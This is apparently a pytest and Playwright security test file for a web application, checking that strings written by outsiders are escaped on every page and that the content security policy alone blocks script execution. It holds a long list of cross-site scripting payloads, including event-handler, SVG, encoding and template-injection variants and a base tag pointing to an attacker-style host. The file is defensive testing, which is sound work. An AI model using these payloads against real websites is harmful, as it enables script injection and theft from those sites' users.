"""What strangers write is shown and never run: by the pages' escaping, and by the content policy alone."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from asked import filled
from logging_in import procflow
from playwright.sync_api import Browser, Page
from serving import Served
from small import small_workspace

from procflow.app import App
from procflow.cli.access_reference import rooms
from procflow.web.safety import HEADERS

DO = "window.top.hit=1"
PAYLOADS = (
    f"<script>{DO}</script>", f"<ScRiPt>{DO}</sCrIpT>", f"<script src='data:text/javascript,{DO}'></script>", f"<script type=module>{DO}</script>",
    f"<script\n>{DO}</script>", f"<<script>{DO}//<</script>", f"<img src=x onerror={DO}>", f"<img src onerror={DO}>", f"<img/src=x/onerror={DO}>",
    f"<img src=x onerror\n={DO}>", f"<IMG SRC=x OnErRoR={DO}>", f'"><img src=x onerror={DO}>', f"'><img src=x onerror='{DO}'>", f"`><img src=x onerror={DO}>",
    "<img src=x onerror=&#119;indow.top.hit=1>", f"<img srcset=x onerror={DO}>", f"<picture><source srcset=x><img src=x onerror={DO}></picture>",
    f"<svg onload={DO}>", f"<svg/onload={DO}//", f"<svg><script>{DO}</script></svg>", f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><set onbegin={DO} attributeName=x>", f"<svg><a xlink:href='javascript:{DO}'><text y=9>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{DO}</script></svg>#x\"></svg>",
    f"<math><mtext><script>{DO}</script></mtext></math>", f"<body onload={DO}>", f"<body onpageshow={DO}>",
    f"<iframe srcdoc='<script>{DO}</script>'></iframe>", f"<iframe src='javascript:{DO}'></iframe>", f"<iframe onload={DO}></iframe>",
    f"<object data='javascript:{DO}'></object>", f"<object data='data:text/html,<script>{DO}</script>'></object>", f"<embed src='javascript:{DO}'>",
    f"<a href='javascript:{DO}' id=go autofocus onfocus={DO}>x</a>", f"<a href='java\tscript:{DO}'>x</a>", f"<input autofocus onfocus={DO}>",
    f"<select autofocus onfocus={DO}></select>", f"<textarea autofocus onfocus={DO}></textarea>", f"<button autofocus onfocus={DO}>x</button>",
    f"<x tabindex=1 autofocus onfocus={DO}>x</x>", f"<details open ontoggle={DO}>x</details>", f"<video><source onerror={DO}></video>",
    f"<video src=x onerror={DO}></video>", f"<audio src=x onerror={DO}></audio>", f"<audio src=x onloadstart={DO}></audio>", f"<marquee onstart={DO}>x</marquee>",
    f"<style onload={DO}></style>", f"<link rel=stylesheet href='data:text/css,*{{}}' onload={DO}>", f"<meta http-equiv=refresh content='0;url=javascript:{DO}'>",
    f"<form action='javascript:{DO}'><button autofocus onfocus={DO}>x</button></form>", f"<isindex type=image src=x onerror={DO}>",
    f"<div style='background:url(javascript:{DO})'>x</div>", f"<div style='width:expression({DO})'>x</div>", f"<div style='animation-name:x' onanimationstart={DO}>x</div>",
    f"<noscript><p title=\"</noscript><img src=x onerror={DO}>\">", f"<template><p></template><img src=x onerror={DO}>",
    f"</textarea><script>{DO}</script>", f"</title><script>{DO}</script>", f"</style><script>{DO}</script>", f"</script><script>{DO}</script>",
    f"--><script>{DO}</script>", f"]]><script>{DO}</script>", f"<!--><script>{DO}</script>-->", f"' autofocus onfocus={DO} x='", f'" autofocus onfocus={DO} x="',
    f"';{DO};//", f'";{DO};//', f"`;{DO};//", f"\\';{DO};//", f"${{{DO}}}", "{{7*7}}{{''.__class__.__mro__}}{% include 'base.html' %}", f"javascript:{DO}",
    f"data:text/html,<script>{DO}</script>", f"&lt;script&gt;{DO}&lt;/script&gt;", f"&#60;script&#62;{DO}&#60;/script&#62;", f"%3Cscript%3E{DO}%3C/script%3E",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e", f"\u2028<script>{DO}</script>\u2029", f"＜script＞{DO}＜/script＞", "<base href='https://evil.example/'><script src=x.js></script>",
)  # fmt: skip
ALL = "\n".join(PAYLOADS)
#: What stands in a name, a title and a label, where there is one line.
ONE = "\"'><img src=x onerror=window.top.hit=1><b>"
BARE = "http://bare.example/"


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace in which everybody who could writes a script: customers, senders, colleagues and owners."""
    folder = small_workspace(tmp_path_factory.mktemp("strangers"))
    in_yaml = "'" + ONE.replace("'", "''") + "'"
    organisation = folder / "procedures" / "organisation.yaml"
    text = organisation.read_text().replace("name: Anna Test", f"name: {in_yaml}")
    organisation.write_text(text.replace("en: Service agent", f"en: {in_yaml}"))
    procedure = folder / "procedures" / "call_back" / "procedure.yaml"
    text = (
        procedure.read_text()
        .replace("en: Call back", f"en: {in_yaml}")
        .replace("en: Answer", f"en: {in_yaml}")
    )
    text = text.replace("starts: [{by: agent}]", "starts: [{by: agent, ask: [name]}]")
    procedure.write_text(
        text.replace("en: Waits for the call", f"en: {in_yaml}").replace("en: Called", f"en: {in_yaml}")
    )
    procflow(folder, "check")
    with App(str(folder)) as app:
        for _ in range(2):
            assert app.open("call_back", "anna", {"name": ALL}).accepted
        noted = [app.note(1, "anna", "\n".join(PAYLOADS[at : at + 10])) for at in range(0, len(PAYLOADS), 10)]
        assert sum(answer.accepted for answer in noted) > 5
        app.keep_draft(1, "anna", "called", {"answer": ALL})
        assert app.do(2, "called", "anna", {"answer": ALL}).accepted
    for sender, subject in (("+4571999901", ONE), (f"{ONE}@evil.example", ALL)):
        procflow(
            folder,
            "receive",
            "--channel",
            "mail",
            "--from",
            sender,
            "--subject",
            subject,
            "--text",
            ALL,
            by="anna",
        )
    return folder


@pytest.fixture(scope="module")
def served(house: Path) -> Iterator[Served]:
    served = Served(house, "--no-host", person="anna")
    yield served
    served.stop()


@pytest.fixture
def looked(browser: Browser, served: Served) -> Iterator[Page]:
    context = browser.new_context(base_url=served.address.rstrip("/"), locale="en-GB")
    page = context.new_page()
    page.on("dialog", lambda dialog: dialog.dismiss())
    yield page
    context.close()


def pages(house: Path) -> list[str]:
    """Every page of the desk that can be looked at, with what strangers may put into its address too."""
    with App(str(house)) as app:
        messages = [row.id for row in app.store.messages("unmatched")]
    assert len(messages) == 2
    found = []
    for route in (route for room in rooms() for route in room.routes):
        if route.method != "GET" or route.stream is not None or route.path.startswith("/api"):
            continue
        ways = [
            {"case": case, "procedure": "call_back", "message": m}
            for case, m in (("1", messages[0]), ("2", messages[1]))
        ]
        for values in ways if "{" in route.path else ways[:1]:
            path = filled(route.path, **values)
            found += [path, f"{path}?q={quote(ALL[:1500])}&next={quote(ONE)}&answer={quote(ONE)}&after=0"]
        found.append(
            filled(
                route.path,
                case=quote(ONE, safe=""),
                procedure=quote(ONE, safe=""),
                message=quote(ONE, safe=""),
            )
        )
    return list(dict.fromkeys(found))


def test_no_page_runs_what_a_stranger_wrote(looked: Page, house: Path) -> None:
    assert len(PAYLOADS) >= 60
    seen = shown = 0
    for path in pages(house):
        answer = looked.request.get(path, max_redirects=0)
        if "text/html" not in answer.headers.get("content-type", ""):
            continue  # a picture or a file to save: looked at below
        looked.goto(path, wait_until="load")
        assert looked.evaluate("window.top.hit") is None, path
        strange = looked.evaluate(
            "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/i.test(a.name) || "
            "(/^(href|src|action|formaction|data)$/i.test(a.name) && /^\\s*(javascript|data):/i.test(a.value))) || "
            "(e.tagName == 'SCRIPT' && !e.src && e.type != 'application/json') || /^(IFRAME|OBJECT|EMBED|BASE|MARQUEE)$/.test(e.tagName)).map(e => e.outerHTML)"
        )
        assert strange == [], (path, strange[:3])
        seen += 1
        shown += looked.evaluate("document.body.innerText.includes('<script>window.top.hit=1</script>')")
    assert seen > 15 and shown >= 4, "what was written is there to be read"


def test_the_picture_of_a_case_runs_nothing_wherever_it_is_opened(looked: Page, served: Served) -> None:
    status, headers, body = served.get("/cases/1/picture.svg", accept_language="en")
    assert status == 200 and headers["content-type"].startswith("image/svg+xml")
    assert b"<img" not in body and b"<script" not in body
    looked.goto("/cases/1/picture.svg")
    assert looked.evaluate("window.top.hit") is None


def _ran(page: Page, payload: str, headers: dict[str, str]) -> bool:
    """Whether a page that shows a payload raw runs it."""
    page.unroute_all()
    page.route("**/*", lambda route: route.fulfill(status=404) if route.request.url != BARE else route.fulfill(
        status=200, content_type="text/html; charset=utf-8", headers=headers,
        body=f"<!doctype html><title>x</title><p>{payload}</p><p>after</p>"))  # fmt: skip
    page.goto(BARE, wait_until="load")
    page.wait_for_function("document.readyState == 'complete'")
    return page.evaluate("new Promise(done => setTimeout(() => done(window.top.hit === 1), 15))") is True


@pytest.fixture
def bare(browser: Browser) -> Iterator[Callable[[str, dict[str, str]], bool]]:
    context = browser.new_context()
    page: Any = context.new_page()
    yield lambda payload, headers: _ran(page, payload, headers)
    context.close()


def test_the_content_policy_alone_stops_what_would_run_without_it(
    bare: Callable[[str, dict[str, str]], bool],
) -> None:
    """As if nothing were escaped: the same payloads on a page that shows them raw."""
    without = [payload for payload in PAYLOADS if bare(payload, {})]
    assert len(without) >= 25, f"only {len(without)} of {len(PAYLOADS)} payloads work at all"
    assert [payload for payload in without if bare(payload, dict(HEADERS))] == []
